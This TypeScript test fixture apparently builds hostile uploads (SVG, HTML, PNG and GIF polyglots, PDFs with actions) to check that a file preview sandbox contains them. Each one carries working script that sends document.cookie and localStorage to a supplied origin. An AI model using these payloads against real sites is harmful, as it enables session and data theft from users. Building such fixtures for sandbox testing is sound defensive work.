import { deflateSync } from 'node:zlib'

/** A file that would read the page around it, and phone home, if it were let. */
export interface HostileFile {
  readonly name: string
  readonly mimeType: string
  readonly buffer: Buffer
}

/** What all of them try: to tell `origin` what they can read. */
const theft = (origin: string): string => `try{top.stolen=1}catch{};try{new Image().src='${origin}/leak?'+encodeURIComponent(JSON.stringify(parent.localStorage))}catch{};fetch('${origin}/leak?'+document.cookie)`

/** Pictures, pages and documents with script, some of them not what they say they are. */
export function hostileFiles(origin: string): readonly HostileFile[] {
  const script = theft(origin)
  const page = `<!doctype html><title>x</title><script>${script}</script><img src="${origin}/leak.png" onerror="${script}"><meta http-equiv="refresh" content="0;url=${origin}/leak">`
  return [
    { name: 'roof.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${script.replaceAll('"', '&quot;').replaceAll('<', '&lt;').replaceAll('&&', '')}"><script>${script}</script><image href="${origin}/leak.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${origin}/leak"/></foreignObject><rect width="40" height="40" fill="teal"/></svg>`) },
    { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from(page) },
    // A page that says it is a picture, and a picture that is also a script.
    { name: 'page.png', mimeType: 'image/png', buffer: Buffer.from(`${page}<!-- a picture -->`) },
    { name: 'both.gif', mimeType: 'image/gif', buffer: Buffer.concat([Buffer.from('GIF89a/*', 'latin1'), Buffer.alloc(20), Buffer.from(`*/=1;${script}//`)]) },
    { name: 'action.pdf', mimeType: 'application/pdf', buffer: pdfThatActs(origin) },
    { name: 'page.pdf', mimeType: 'application/pdf', buffer: Buffer.from(`${page}<!-- a document -->`) },
  ]
}

/** A PDF that asks its reader to run a script, to open an address, and to submit a form (ISO 32000-1, "Actions"). */
function pdfThatActs(origin: string): Buffer {
  const words = deflateSync(Buffer.from('BT /F 12 Tf 60 700 Td (Signed by the board) Tj ET'))
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${origin}/leak'\\);)/Next<</S/URI/URI(${origin}/leak)>>>>/AA<</WC<</S/SubmitForm/F(${origin}/leak)>>>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>',
    `<</Length ${words.length}/Filter/FlateDecode>>stream\n${words.toString('latin1')}\nendstream`, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ]
  let body = '%PDF-1.4\n'
  const places = objects.map((object, index) => {
    const place = body.length
    body += `${index + 1} 0 obj${object}\nendobj\n`
    return place
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  return Buffer.from(`${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF`, 'latin1')
}
